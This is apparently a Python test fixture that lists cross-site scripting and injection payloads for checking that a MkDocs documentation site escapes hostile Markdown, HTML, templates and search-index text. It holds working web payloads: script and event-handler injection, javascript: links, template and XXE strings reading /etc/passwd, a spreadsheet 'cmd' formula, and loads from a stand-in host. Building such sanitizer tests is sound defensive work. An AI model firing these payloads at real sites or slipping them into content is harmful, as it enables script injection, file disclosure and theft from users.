"""What somebody could write into a text so that it runs, loads, or breaks out of where it is shown.

Each sets `window.__x`, opens a dialog, or asks another server (`evil.example`) when it works.
"""

MARK = "__x"
"""The variable that a payload sets when it runs."""

_RUN = f"window.{MARK}=1"

PAYLOADS = (
    # Tags, in the forms that browsers forgive.
    f"<script>{_RUN}</script>",
    f"<ScRiPt src=//evil.example/x.js></ScRiPt><scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<img src=x onerror={_RUN}>",
    f"<img/src='x'/onerror='{_RUN}'//",
    f"<svg onload={_RUN}>",
    f"<svg><script xlink:href='data:,{_RUN}'/></svg><svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><foreignObject><iframe onload={_RUN}></iframe></foreignObject></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text x=9 y=9>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<iframe srcdoc='&lt;script&gt;parent.{MARK}=1&lt;/script&gt;'></iframe>",
    "<iframe src=https://evil.example/></iframe><object data=//evil.example/x></object><embed src=//evil.example/y>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={_RUN}><select autofocus onfocus={_RUN}><video><source onerror={_RUN}>",
    f"<form action=javascript:{_RUN}><button formaction=javascript:{_RUN}>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href=https://evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/y.css';</style>",
    f"<a href=javascript:{_RUN}>a</a><a href='java&#x0A;script:{_RUN}'>b</a><a href=' &#14; javascript:{_RUN}'>c</a>",
    f"<div style='background:url(//evil.example/z.png);width:expression({_RUN})'>",
    # Out of elements whose content is not parsed as tags.
    f"</title><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</textarea></noscript></template></xmp><script>{_RUN}</script>",
    f"</svg></desc></text><script>{_RUN}</script>",
    f"--> --!> <!-- --><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script><![CDATA[",
    f"<!--processmap-words--><script>{_RUN}</script>",
    "<?xml-stylesheet href='//evil.example/x.css'?><?php echo 1 ?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    # Out of attributes, in quotes of every flavour.
    f'" onmouseover="{_RUN}" x="',
    f"' onmouseover='{_RUN}' x='",
    f"` onmouseover=`{_RUN}` x=`",
    f'"><script>{_RUN}</script>',
    f"'><img src=x onerror={_RUN}>",
    f"\\\"><script>{_RUN}</script> \\' \\` \\\\",
    f"“ onfocus=“{_RUN}“ ＜script＞{_RUN}＜/script＞ ʺ ʹ",
    f'x" autofocus tabindex=1 onfocus="{_RUN}',
    # Entities, once and twice.
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&amp;lt;img src=x onerror={_RUN}&amp;gt;",
    f"&#60;img src=x onerror={_RUN}&#62; &#x3c;script&#x3e;{_RUN}&#x3c;/script&#x3e; &lt &gt &quot",
    f"%3Cscript%3E{_RUN}%3C/script%3E \\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    # Markdown links and images.
    f"[a](javascript:{_RUN}) [b](JaVaScRiPt:{_RUN}) [c](<javascript:{_RUN}>)",
    f"[a](java&#115;cript:{_RUN}) [b](java&Tab;script:{_RUN}) [c](&#1;javascript:{_RUN}) [d](javascript&colon;{_RUN})",
    f"[a](data:text/html,<script>{_RUN}</script>) [b](data:text/html;base64,PHNjcmlwdD4=)",
    f"[a](vbscript:{_RUN}) [b](file:///etc/passwd) [c](//evil.example) [d](/\\evil.example) [e](blob:x)",
    f"![a](javascript:{_RUN}) ![b](data:image/svg+xml,<svg/onload={_RUN}>) ![c](https://evil.example/pixel.png)",
    f'[a](https://a.example/"onmouseover="{_RUN}) [b](https://a.example/\'><script>{_RUN}</script>)',
    f'[a](https://a.example "\\" onmouseover={_RUN} x=") [b](https://a.example \'</a><script>{_RUN}</script>\')',
    f"[a]: javascript:{_RUN}\n\n[a] [b][a]",
    f"<javascript:{_RUN}> <https://evil.example/> <a@evil.example>",
    f"[<img src=x onerror={_RUN}>](https://a.example) [`<script>{_RUN}</script>`](ITO-V0)",
    f'[x](MIC-V0/T20"onmouseover="{_RUN}) [y](ITO-V0#"onmouseover={_RUN}) [z](XXX-0)',
    # What MkDocs and its extensions know.
    f"# Title {{: onclick={_RUN} #top .x }}",
    f'{{: onmouseover={_RUN} }}\n{{: #x style="position:fixed" }}',
    f"*a*{{: onclick={_RUN} }} [b](https://a.example){{: onclick={_RUN} }}",
    f'!!! danger "<script>{_RUN}</script>"\n    <script>{_RUN}</script>',
    f"??? note\n    <img src=x onerror={_RUN}>",
    f"<div markdown>\n\n[a](javascript:{_RUN})\n\n</div><p markdown='1'>[b](javascript:{_RUN})</p>",
    f"```html\n<script>{_RUN}</script>\n```\n~~~ {{ .x onclick={_RUN} }}\n~~~",
    f"\n\n    <script>{_RUN}</script>\n\n<script>{_RUN}</script>\n\n",
    f"a[^1]\n\n[^1]: <script>{_RUN}</script>\n*[HTML]: <b onclick={_RUN}>",
    '--8<-- "/etc/passwd"\n;--8<--\n/etc/passwd\n[TOC] [[toc]]',
    f"| a | b |\n|---|---|\n| <script>{_RUN}</script> | [x](javascript:{_RUN}) |",
    f'\n---\ntitle: <script>{_RUN}</script>\ntemplate: evil.html\ntags: ["<script>{_RUN}</script>"]\n---\n',
    f"Title\n=====\n\n<script>{_RUN}</script>\n-----\n\n***\n\n> <script>{_RUN}</script>",
    f"wzxhzdk:0\x02 \x02wzxhzdk:1\x03 klzzwxh:0000 \x02klzzwxh:0000\x03 \x02amp\x03 {_RUN}",
    # Templates.
    "{{ 7*7 }} {{ self.__init__.__globals__ }} {{ config.items() }} {% raw %}{% endraw %} {% include '/etc/passwd' %}",
    "{% extends 'evil.html' %}{% block content %}x{% endblock %} {# #} ${7*7} #{7*7} <%= 7*7 %> %s %(x)s {0.__class__}",
    # Style sheets.
    f"}}</style><style>*{{background:url(//evil.example/q)}} \\3c script\\3e {_RUN}",
    '"; } body { background: url(https://evil.example/r.png); content: "\\',
    # Signs that one cannot see, or that turn the direction of reading.
    f"\u202e<script>{_RUN}</script>\u202c \u2066\u2067 \u200b\u200e\ufeff",
    f"\x00<scr\x00ipt>{_RUN}</scr\x00ipt> \x01\x08\x0b\x0c\x1b[31m\x7f\x85\ufffe\uffff",
    f"\u2028<script>{_RUN}</script>\u2029 \U0001f600 e\u0301 \u212a \u017fcript",
    # The search index and its list of results.
    f"<mark><script>{_RUN}</script></mark> \\u003cimg src=x onerror={_RUN}\\u003e",
    f'"}}],"docs":[{{"location":"javascript:{_RUN}","title":"<img src=x onerror={_RUN}>","text":"x"}}]',
    f"title:* +x -y ~1 ^2 <b>bold</b> <img src=x onerror={_RUN}> &lt;img src=x onerror={_RUN}&gt;",
    # Names of the page's own things.
    "</a></li></ul></dd></dl></td></tr></table></section></div></article></main><h1 id=top>x</h1>",
    "<a name=location id=__config></a><form name=document id=__search><input name=cookie></form>",
    "=cmd|' /C calc'!A0 +1+1 @SUM(1) -2+3 \"\t\r\n\\\\evil.example\\share",
    '{"@context":"x"} <script type=application/json id=__search>{}</script>',
)
